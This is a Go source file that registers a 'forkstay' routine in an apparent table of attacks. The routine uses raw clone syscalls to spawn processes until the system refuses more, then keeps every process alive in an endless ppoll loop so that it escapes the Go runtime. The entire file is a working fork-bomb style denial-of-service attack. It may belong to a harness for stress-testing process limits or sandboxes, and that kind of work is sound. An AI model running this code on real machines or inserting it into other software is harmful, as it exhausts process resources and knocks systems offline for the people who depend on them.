//go:build linux

package main

import "golang.org/x/sys/unix"

func init() { attacks["forkstay"] = forkStay }

// forkStay makes processes until it gets no more, and stays, without Go's runtime
// in the way, which ends a program that gets no thread.
func forkStay(args []string) (string, error) {
	for range number(args[0]) {
		pid, _, e := unix.RawSyscall6(unix.SYS_CLONE, uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
		if pid == 0 || e != 0 {
			break
		}
	}
	for {
		unix.RawSyscall6(unix.SYS_PPOLL, 0, 0, 0, 0, 0, 0)
	}
}
